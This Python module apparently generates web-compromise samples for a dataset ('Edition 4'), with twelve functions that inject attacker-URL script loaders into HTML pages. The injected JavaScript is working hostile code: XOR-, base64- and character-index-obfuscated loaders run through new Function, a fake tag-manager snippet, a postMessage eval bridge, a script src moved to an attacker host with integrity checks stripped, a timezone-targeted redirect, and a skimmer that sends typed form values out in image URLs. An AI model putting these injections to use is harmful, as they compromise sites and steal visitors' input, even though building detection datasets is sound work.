"""Edition 4's injection styles of the `script` family. Each turns an attacker URL into edits of the
page: some rewrite what is already there (a first-party inline script gains a tail, an existing
<script src> moves to a new host, the <body> tag gains an onload handler), the others add a
snippet. None is an edition 1-3 style."""

from __future__ import annotations

import base64
import json
import random
import re
import string
from collections.abc import Callable
from urllib.parse import urlsplit

from ..attack import NotApplicable, Page, insert
from ..splice import Edit

Style = Callable[[Page, str, random.Random], tuple[list[Edit], str]]
INLINE_MIN = 40  # characters of an inline script worth appending to
_SRC = re.compile(r"""\ssrc\s*=\s*(["']?)([^"'\s>]+)\1""", re.I)
_INTEGRITY = re.compile(r"""\s(integrity|crossorigin)(\s*=\s*(["'])[^"']*\3)?""", re.I)


def _loader(url: str, rng: random.Random) -> str:
    var = rng.choice(("e", "q", "z", "t"))
    return (
        f"var {var}=document.createElement('script');{var}.setAttribute('src','{url}');"
        f"document.documentElement.appendChild({var});"
    )


def _tail(page: Page, where: str, html_: str) -> tuple[list[Edit], str]:
    at = page.head_end() if where == "head" else page.body_end()
    return [insert(at, html_)], where


def _append_inline(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    """Code appended to the end of an existing first-party inline script."""
    found = [
        s
        for s in page.scan.all("script")
        if "src" not in s.attrs
        and (s.attrs.get("type") or "text/javascript").lower()
        in ("text/javascript", "application/javascript", "module")
        and s.close - s.inner >= INLINE_MIN
        and "</" not in page.text[s.inner : s.close]
    ]
    if not found:
        raise NotApplicable("no inline script")
    target = rng.choice(found[:8])
    code = f";setTimeout(function(){{{_loader(url, rng)}}},{rng.choice((800, 1500, 3000))});"
    return [insert(target.close, code)], "inline-script"


def _rehost(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    """An existing <script src> points at the same path on the attacker's host; integrity and
    crossorigin attributes go."""
    scripts = [s for s in page.scan.all("script") if s.attrs.get("src") and _SRC.search(s.tag_text)]
    if not scripts:
        raise NotApplicable("no external script")
    target = rng.choice(scripts[:10])
    found = _SRC.search(target.tag_text)
    assert found is not None
    path = "/" + (urlsplit(found.group(2)).path.lstrip("/") or "app.js")
    host = urlsplit(url).netloc
    tag = target.tag_text[: found.start(2)] + f"https://{host}{path}" + target.tag_text[found.end(2) :]
    tag = _INTEGRITY.sub("", tag)
    return [Edit(target.start, target.start + len(target.tag_text), tag)], "existing-script"


def _tag_manager(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    parts = urlsplit(url)
    box = "GTM-" + "".join(rng.choice(string.ascii_uppercase + string.digits) for _ in range(7))
    code = (
        "(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});"
        "var f=d.getElementsByTagName(s)[0],j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;"
        f"j.src='https://{parts.netloc}/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);}})"
        f"(window,document,'script','dataLayer','{box}');"
    )
    return _tail(page, "head", f"<script>{code}</script>")


def _post_message(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    key = f"k{rng.getrandbits(24):06x}"
    code = (
        "window.addEventListener('message',function(m){"
        f"if(m.data&&m.data.{key})(new Function(m.data.{key}))();}});"
    )
    frame = f'<iframe src="{url}" style="display:none" title=""></iframe>'
    return _tail(page, "body-end", f"<script>{code}</script>{frame}")


def _css_import(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    """A style sheet that carries the payload in a custom property, and a reader that runs it."""
    prop = f"--p{rng.getrandbits(16):04x}"
    code = (
        "window.addEventListener('load',function(){var v=getComputedStyle(document.documentElement)"
        f".getPropertyValue('{prop}').trim().replace(/^\"|\"$/g,'');if(v)(new Function(atob(v)))();}});"
    )
    return _tail(page, "head", f'<style>@import url("{url}");</style><script>{code}</script>')


def _char_index(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    alphabet = sorted(set(url))
    rng.shuffle(alphabet)
    table = "".join(alphabet)
    index = [table.index(c) for c in url]
    code = (
        f"(function(a,i){{var u=i.map(function(k){{return a.charAt(k)}}).join('');"
        f"var s=document.createElement('script');s.src=u;document.body.appendChild(s);}})"
        f"({json.dumps(table)},{json.dumps(index, separators=(',', ':'))});"
    )
    return _tail(page, "body-end", f"<script>{code}</script>")


def _body_onload(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    """An onload handler added to the page's own <body> tag."""
    body = page.body()
    if "onload" in body.attrs or not page.text[body.start : body.inner].rstrip().endswith(">"):
        raise NotApplicable("body tag unusable")
    handler = f"var b=document.createElement('script');b.src='{url}';document.body.appendChild(b)"
    at = body.start + page.text[body.start : body.inner].rindex(">")
    return [insert(at, f' onload="{handler}"')], "body-tag"


def _inert_block(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    name = f"cfg-{rng.getrandbits(20):05x}"
    block = f'<script type="text/x-template" id="{name}">{_loader(url, rng)}</script>'
    run = f"<script>(new Function(document.getElementById('{name}').textContent))();</script>"
    return _tail(page, rng.choice(("head", "body-end")), block + run)


def _xor(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    key = rng.randint(7, 120)
    data = [b ^ key for b in _loader(url, rng).encode()]
    code = (
        "(function(k,d){var c='';for(var n=0;n<d.length;n++)c+=String.fromCharCode(d[n]^k);"
        "(new Function(c))();})"
        f"({key},{json.dumps(data, separators=(',', ':'))});"
    )
    return _tail(page, "body-end", f"<script>{code}</script>")


def _css_exfil(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    """Typed form values leave as a background image's query string."""
    sep = "&" if "?" in url else "?"
    code = (
        "document.addEventListener('change',function(e){var t=e.target;if(!t||!t.value)return;"
        "var i=document.createElement('i');i.style.cssText='position:absolute;width:1px;height:1px';"
        f"i.style.backgroundImage='url({url}{sep}v='+encodeURIComponent(btoa(t.name+'='+t.value))+')';"
        "document.body.appendChild(i);},true);"
    )
    return _tail(page, "body-end", f"<script>{code}</script>")


def _timezone(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    zone = rng.choice(("Asia/", "Asia/Shanghai", "Asia/Hong_Kong", "Europe/"))
    code = (
        "try{var z=Intl.DateTimeFormat().resolvedOptions().timeZone||'';"
        f"if(z.indexOf('{zone}')===0&&!localStorage.getItem('_tz1')){{localStorage.setItem('_tz1','1');"
        f"location.replace('{url}');}}}}catch(x){{}}"
    )
    return _tail(page, "head", f"<script>{code}</script>")


def _details_toggle(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    data = base64.b64encode(_loader(url, rng).encode()).decode()
    markup = (
        f'<details open ontoggle="(new Function(atob(\'{data}\')))()" style="display:none">'
        "<summary></summary></details>"
    )
    return _tail(page, "body-end", markup)


STYLES: dict[str, Style] = {
    "append-to-inline-script": _append_inline,
    "rehost-existing-src": _rehost,
    "tag-manager-container": _tag_manager,
    "postmessage-bridge": _post_message,
    "css-import-property-loader": _css_import,
    "char-index-builder": _char_index,
    "body-onload-attribute": _body_onload,
    "inert-block-eval": _inert_block,
    "xor-decoder": _xor,
    "skimmer-css-background": _css_exfil,
    "redirect-timezone": _timezone,
    "details-ontoggle": _details_toggle,
}
TARGET = {"postmessage-bridge": "page", "redirect-timezone": "page", "skimmer-css-background": "collect"}
